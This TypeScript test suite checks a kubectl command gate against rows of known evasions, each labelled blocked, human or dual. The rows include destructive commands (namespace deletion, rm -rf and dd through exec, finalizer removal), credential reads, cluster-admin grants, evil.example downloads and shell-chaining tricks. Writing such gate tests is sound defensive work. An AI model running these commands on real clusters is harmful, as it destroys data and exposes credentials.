// The known evasions, row by row of the collection that this gate was built against.
import { suite } from 'node:test';
import { attacks } from './attack.ts';

const NAMESPACE = 'apiVersion: v1\nkind: Namespace\nmetadata: {name: prod}\n';
const CONFIG = 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n';

suite('1: --raw DELETE knows no dry run', () =>
  attacks([
    ['blocked', 'kubectl delete --raw /api/v1/namespaces/prod --dry-run=server'],
    ['blocked', 'kubectl delete --raw=/api/v1/namespaces/prod --dry-run=client'],
    ['blocked', 'kubectl delete --raw /api/v1/persistentvolumes --dry-run=server'],
    ['blocked', 'kubectl delete --raw /api/v1/namespaces/shop/persistentvolumeclaims'],
    ['blocked', 'kubectl delete --raw /apis/rbac.authorization.k8s.io/v1/clusterroles/admin'],
    ['blocked', 'kubectl delete --raw /api/v1/namespaces/%70rod'],
    ['blocked', "kubectl delete --raw '/api/v1/namespaces/prod?dryRun=All'"],
    ['blocked', 'kubectl delete --raw https://evil.example/api/v1/namespaces/prod'],
    ['dual', 'kubectl delete --raw /api/v1/namespaces/a/../b'],
    ['dual', 'kubectl delete --raw //api/v1/namespaces/prod'],
    ['dual', 'kubectl delete --raw /api/v1/namespaces%2fprod'],
    ['dual', 'kubectl delete --raw /api/v1/pods/%2e%2e/namespaces/prod'],
  ]));

suite('2: --raw PUT and POST to finalize and eviction', () =>
  attacks([
    ['blocked', 'kubectl replace --raw /api/v1/namespaces/prod/finalize -f ns.json'],
    ['blocked', 'kubectl replace --raw /api/v1/namespaces/prod/finalize -f ns.json --dry-run=client'],
    ['dual', 'kubectl create --raw /api/v1/namespaces/dev/pods/x/eviction -f e.json --dry-run=server'],
  ]));

suite('3: GETs that reach further than the API', () =>
  attacks([
    ['blocked', "kubectl get --raw '/api/v1/nodes/n/proxy/run/ns/pod/c?cmd=id'"],
    ['dual', 'kubectl get --raw /api/v1/nodes/n/proxy/run/ns/pod/c?cmd=id'],
    ['blocked', 'kubectl get --raw /api/v1/nodes/https:n:10250/proxy/'],
    ['dual', 'kubectl get --raw /api/v1/namespaces/shop/services/x:http/proxy/admin'],
    ['dual', 'kubectl get --raw /api/v1/namespaces/shop/pods/x:8080/proxy/'],
  ]));

suite('4 and 5: dry runs that are none', () =>
  attacks([
    ['blocked', 'kubectl delete ns prod --dry-run=none'],
    ['blocked', 'kubectl delete ns prod --dry-run=false'],
    ['blocked', 'kubectl delete ns prod --dry-run=0'],
    ['blocked', 'kubectl delete ns prod --dry-run=F'],
    ['blocked', 'kubectl delete ns prod --dry-run=Client'],
    ['blocked', 'kubectl delete ns prod --dry-run='],
    ['blocked', "kubectl delete ns prod --dry-run='client '"],
    ['blocked', 'kubectl delete ns prod --dry-run=server --dry-run=none'],
    ['blocked', 'kubectl delete ns prod --dry_run=client --dry-run=none'],
    ['blocked', 'kubectl delete ns prod --cache-dir --dry-run=client'],
    ['blocked', 'kubectl delete ns prod --field-selector --dry-run=client'],
    ['blocked', 'kubectl delete ns prod -test.dry-run=client'],
    ['blocked', 'kubectl delete ns prod -- --dry-run=client'],
    ['auto!', 'kubectl delete ns prod --dry-run=client'],
    ['auto!', 'kubectl delete ns prod --dry-run=server'],
  ]));

suite('6 and 7: flags that belong to others, and values that are names', () =>
  attacks([
    ['blocked', 'kubectl exec p -- rm -rf / --dry-run'],
    ['blocked', 'kubectl exec p --dry-run=client -- rm -rf /data'],
    ['auto!', 'kubectl delete pod a --dry-run none'],
    ['blocked', 'kubectl delete ns prod --cascade false'],
    ['blocked', 'kubectl delete ns prod --all false'],
  ]));

suite('8 to 10: where the verb and the namespace stand', () =>
  attacks([
    ['dual', 'kubectl -n dev delete deploy web --namespace=kube-system'],
    ['dual', 'kubectl -n=dev delete deploy web -nkube-system'],
    ['blocked', 'kubectl -n get delete ns a'],
    ['blocked', 'kubectl -A pods delete --all'],
    ['blocked', 'kubectl --all namespaces delete -n dev'],
    ['blocked', 'kubectl --grace-period 0 delete ns a'],
    ['blocked', 'kubectl -o yaml delete ns a'],
    ['human', 'kubectl -shttp://evil.example get pods'],
    ['human', 'kubectl --insecure_skip_tls_verify get pods'],
    ['auto!', 'kubectl get pods -Aowide'],
  ]));

suite('11: another cluster, another identity', () =>
  attacks([
    ...[
      '--server=https://evil',
      '--token=x',
      '--kubeconfig=/tmp/k',
      '--context=prod',
      '--cluster=c',
      '--user=admin',
    ].map((flag) => ['human', `kubectl get pods ${flag}`] as const),
    ...['--as=system:admin', '--as-group=system:masters', '--as-uid=1', '--as-user-extra=a=b'].map(
      (flag) => ['human', `kubectl get pods ${flag}`] as const,
    ),
    ['blocked', 'kubectl --as=system:admin delete ns a'],
    ['human', ['kubectl', 'get', 'pod', '--server=https://evil.example']],
  ]));

suite('12: surroundings that change meaning', () =>
  attacks([
    ['human', 'kubectl --kuberc=f get pods'],
    ['human', 'KUBERC=/tmp/x kubectl get pods'],
    ['human', 'KUBECONFIG=/tmp/x kubectl get pods'],
    ['human', 'PATH=/tmp:$PATH kubectl get pods'],
    ['human', 'export KUBECONFIG=/tmp/x; kubectl get pods'],
    ['human', 'KUBECTL_EXTERNAL_DIFF=/tmp/evil kubectl diff -f a.yaml'],
    ['dual', 'KUBE_EDITOR=/tmp/evil kubectl edit cm x'],
    ['human', 'kubectl kustomize . --enable-helm --helm-command=/tmp/evil'],
  ]));

suite('13 and 14: one kind in many words', () =>
  attacks([
    ...['ns', 'Namespace', 'Namespaces', 'NAMESPACES', 'ns.', 'namespaces.v1.', 'namespace', 'Namespace.v1.'].map(
      (kind) => ['blocked', `kubectl delete ${kind} prod`] as const,
    ),
    ['blocked', 'kubectl delete po,ns prod'],
    ['blocked', 'kubectl delete pod/x ns/prod'],
    ['blocked', 'kubectl delete pv,pvc --all'],
    ['blocked', 'kubectl delete ClusterRole.v1.rbac.authorization.k8s.io admin'],
    ['blocked', 'kubectl delete clusterroles.rbac x'],
    ['blocked', 'kubectl delete all --all -A'],
    ['dual!', 'kubectl delete all --all -n shop'],
    ['blocked', 'kubectl delete api-extensions --all'],
    ['dual', 'kubectl delete managed --all'],
    ['blocked', 'kubectl delete PersistentVolumeClaims data -n dev'],
  ]));

suite('15: selectors that choose everything', () =>
  attacks([
    ['human!', "kubectl delete pod -l 'app!=zzz' -n shop"],
    ['human!', "kubectl delete pod -l '!app' -n shop"],
    ['blocked', 'kubectl delete pods --all -A'],
    ['blocked', 'kubectl delete pods --all --all-namespaces=true'],
    ['dual!', "kubectl delete pods -A -l 'app notin (x)'"],
    ['dual!', 'kubectl delete pods -n kube-system --field-selector status.phase=Running'],
  ]));

suite('16 to 18: content that is not in the command', () =>
  attacks([
    ['dual', 'kubectl delete -f -'],
    ['dual', 'kubectl delete -f https://evil.example/x.yaml'],
    ['dual', 'kubectl delete -k github.com/x/y'],
    ['dual', 'kubectl apply -f dir -R'],
    ['dual', 'kubectl apply -f a.yaml,b.yaml', { 'a.yaml': CONFIG }],
    ['blocked', 'kubectl delete -f ns.yaml', { 'ns.yaml': NAMESPACE }],
    ['blocked', 'kubectl delete -f a.yaml,ns.yaml', { 'a.yaml': CONFIG, 'ns.yaml': NAMESPACE }],
    ['blocked', 'kubectl delete -f dir', { 'dir/a.yaml': CONFIG, 'dir/z.yaml': NAMESPACE }],
    ['blocked', 'kubectl delete -f x.yaml', { 'x.yaml': `${CONFIG}---\n${NAMESPACE}` }],
    ['blocked', 'kubectl apply --prune --all -f cm.yaml -n dev', { 'cm.yaml': CONFIG }],
    ['blocked', 'kubectl apply --prune -l a=b --prune-allowlist=core/v1/Namespace -f cm.yaml', { 'cm.yaml': CONFIG }],
    ['dual', 'kubectl apply --prune --applyset=x -f cm.yaml', { 'cm.yaml': CONFIG }],
    ['blocked', 'kubectl replace --force -f ns.yaml', { 'ns.yaml': NAMESPACE }],
    ['blocked', 'kubectl apply --force -f ns.yaml', { 'ns.yaml': NAMESPACE }],
    ['dual', 'kubectl replace --force -f ns.yaml'],
  ]));

suite('19: finalizers and reclaim policies', () =>
  attacks([
    ['blocked', `kubectl patch pvc data -p '{"metadata":{"finalizers":null}}'`],
    ['blocked', `kubectl patch pvc data --type merge -p '{"metadata":{"finalizers":[]}}'`],
    ['blocked', `kubectl patch pvc data --type=json -p '[{"op":"remove","path":"/metadata/finalizers"}]'`],
    ['blocked', `kubectl patch pvc data --type=json -p '[{"op":"remove","path":"/metadata/finalizers/0"}]'`],
    ['blocked', `kubectl patch pvc data --type=json -p '[{"op":"replace","path":"/metadata/finalizers","value":[]}]'`],
    ['blocked', `kubectl patch ns a --type=json -p '[{"op":"remove","path":"/spec/finalizers"}]'`],
    [
      'blocked',
      `kubectl patch pvc data -p '{"metadata":{"$deleteFromPrimitiveList/finalizers":["kubernetes.io/pvc-protection"]}}'`,
    ],
    ['blocked', `kubectl patch pvc data -p 'metadata: {finalizers: null}'`],
    ['blocked', `kubectl patch pv x -p '{"spec":{"persistentVolumeReclaimPolicy":"Delete"}}'`],
    ['dual!', `kubectl patch deploy x -n shop --type merge -p '{"metadata":{"finalizers":null}}'`],
  ]));

suite('20: outages without a deletion', () =>
  attacks([
    ['dual!', 'kubectl scale deploy --all --replicas=0 -n shop'],
    ['human!', `kubectl patch deploy web --subresource=scale --type=merge -p '{"spec":{"replicas":0}}'`],
    ['human!', 'kubectl scale deploy web --replicas=0x0 -n shop'],
    ['human!', 'kubectl scale deploy web --replicas=00 -n shop'],
    ['human!', `kubectl patch hpa web -p '{"spec":{"maxReplicas":1}}'`],
    ['human!', 'kubectl rollout pause deploy/web'],
    ['human!', `kubectl patch cronjob nightly -p '{"spec":{"suspend":true}}'`],
    ['dual!', 'kubectl scale deploy web --replicas=0 -n kube-system'],
  ]));

suite('21 and 22: labels and annotations that steer', () =>
  attacks([
    ['human!', 'kubectl label pod x app-'],
    ['human!', 'kubectl label pod x app=y --overwrite'],
    ['dual!', 'kubectl label ns shop pod-security.kubernetes.io/enforce=privileged --overwrite'],
    ['human!', 'kubectl set selector svc web app=x'],
    ['dual!', 'kubectl annotate ingress web nginx.ingress.kubernetes.io/configuration-snippet=x'],
    ['dual!', 'kubectl annotate sa robot eks.amazonaws.com/role-arn=arn:aws:iam::1:role/admin'],
    ['dual!', 'kubectl annotate deploy web janitor/ttl=1s'],
  ]));

suite('23: new code, new identity', () =>
  attacks([
    ['human!', 'kubectl set image deploy web web=evil.example/x'],
    ['dual!', 'kubectl set env deploy web --from=secret/db'],
    ['dual!', 'kubectl set serviceaccount deploy web admin'],
  ]));

suite('24 and 25: into containers', () =>
  attacks([
    ['dual', 'kubectl exec p -- sh -c "$(echo cm0gLXJmIC8= | base64 -d)"'],
    ['dual!', 'kubectl exec p -- psql -f x.sql'],
    ['dual!', 'kubectl exec p -- find / -delete'],
    ['dual!', 'kubectl exec p -- dd if=/dev/zero of=/dev/sda'],
    ['dual', 'kubectl cp ./x shop/p:/bin/sh'],
    ['dual', 'kubectl cp p:/var/run/secrets/kubernetes.io/serviceaccount/token ./t'],
    ['dual', 'kubectl attach p -it'],
    ['dual', 'kubectl debug -it p --copy-to=c --image=x'],
    ['dual!', 'kubectl debug p --image=x --target=main'],
  ]));

suite('26 to 28: nodes, tunnels, grants', () =>
  attacks([
    ['blocked', 'kubectl debug node/n1 -it --image=x'],
    ['blocked', `kubectl run x --image=x --overrides='{"spec":{"hostPID":true}}'`],
    [
      'dual!',
      `kubectl run x --image=x --overrides='{"spec":{"containers":[{"name":"x","securityContext":{"privileged":true}}]}}'`,
    ],
    ['dual', 'kubectl proxy --address=0.0.0.0'],
    ['dual', 'kubectl port-forward svc/db 5432'],
    ['dual', 'kubectl auth reconcile -f x.yaml'],
    ['blocked', 'kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=eve'],
    ['blocked', 'kubectl create clusterrolebinding x --clusterrole=view --group=system:masters'],
    ['dual', 'kubectl edit role x'],
  ]));

suite('29 and 30: credentials', () =>
  attacks([
    ['dual!', 'kubectl create token robot'],
    ['dual!', 'kubectl get secret'],
    ['dual!', 'kubectl get secrets -o name'],
    ['dual!', 'kubectl describe secret x'],
    ['dual!', 'kubectl get po,secret'],
    ['dual!', 'kubectl config view --raw'],
    ['dual!', 'kubectl config view --flatten'],
    ['blocked', 'kubectl certificate approve x'],
  ]));

suite('31 to 33: what holds a cluster together', () =>
  attacks([
    ['blocked', 'kubectl delete crd widgets.example.com'],
    ['blocked', 'kubectl delete apiservice v1beta1.metrics.k8s.io'],
    ['blocked', 'kubectl delete validatingwebhookconfiguration x'],
    ['blocked', `kubectl patch mutatingwebhookconfiguration x --type=json -p '[{"op":"remove","path":"/webhooks/0"}]'`],
    ['dual!', 'kubectl delete priorityclass high'],
    ['dual!', 'kubectl delete sc fast'],
    ['dual!', 'kubectl delete node n1'],
    ['dual!', 'kubectl delete lease kube-scheduler -n kube-system'],
    ['blocked', 'kubectl drain n1 --disable-eviction --force'],
    ['blocked', 'kubectl taint nodes --all a=b:NoExecute'],
    ['blocked', 'kubectl taint node n1 n2 --all a=b:NoExecute'],
    ['human!', 'kubectl rollout undo deploy web --to-revision=1'],
  ]));

suite('34 and 35: custom kinds, cascades', () =>
  attacks([
    ['dual!', `kubectl patch clusters.postgresql.cnpg.io db --type merge -p '{"spec":{"instances":0}}'`],
    ['dual!', 'kubectl delete applications.argoproj.io web'],
    ['dual!', 'kubectl delete deploy web --cascade=orphan'],
    ['dual!', 'kubectl delete deploy web --cascade=foreground -n production'],
    ['human!', 'kubectl delete pod db-0 --grace-period=0 --force'],
  ]));

suite('36: programs that are not kubectl', () =>
  attacks([
    ['human', 'kubectl anything goes'],
    ['dual', './evil-kubectl get pods'],
    ['dual', 'kubectl-evil get pods'],
    ['blocked', 'sudo kubectl delete ns a'],
    ['blocked', 'env -i X=y kubectl delete ns a'],
    ['blocked', 'timeout -k 5 10 kubectl delete ns a'],
    ['blocked', 'watch -n1 kubectl delete ns a'],
    ['blocked', 'echo a | xargs kubectl delete ns'],
    ['blocked', '/usr/local/bin/kubectl delete ns a'],
    ['human', '/tmp/kubectl delete pod x'],
  ]));

suite('37: what only running tells', () =>
  attacks([
    ['dual', 'kubectl delete $KIND x'],
    ['blocked', 'kubectl delete ns $(cat x)'],
    ['blocked', 'kubectl delete ns `cat x`'],
    ['blocked', 'kubectl delete {ns,pv} x'],
    ['human', 'kubectl delete pod web-*'],
    ['blocked', 'kubectl get pods & kubectl delete ns a'],
    ['blocked', 'kubectl get pods\nkubectl delete ns a'],
    ['blocked', 'kubectl version; kubectl delete ns a'],
    ['human', 'kubectl get pods > ~/.ssh/authorized_keys'],
    ['human', 'kubectl $VERB ns a'],
    ['blocked', 'kubectl apply -f - --force <<EOF\napiVersion: v1\nkind: Namespace\nmetadata: {name: a}\nEOF'],
    ['blocked', 'kubectl delete -f - <<< \'{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"a"}}\''],
    ['dual', 'kubectl delete -f <(curl https://evil.example)'],
  ]));

suite('38: letters that look like others', () =>
  attacks([
    ['human', 'kubectl delete pod x -n kube‑system'],
    ['human', 'kubectl delete pod x –dry-run=client'],
    ['human', 'kubectl delete pod x —dry-run=client'],
    ['human', ['kubectl', 'delete', 'pod', 'we\u200bb']],
    ['human', ['kubectl', 'delete', 'pod', 'web\u202e']],
    ['human', ['kubectl', 'delete', 'pod', 'web\r']],
    ['human', ['kubectl', 'delete', 'pod', 'wеb']],
    ['blocked', ['kubectl', 'delete', 'ns', 'we\u200bb']],
    ['human', 'kubectl annotate pod x note=“quoted” –overwrite'],
  ]));
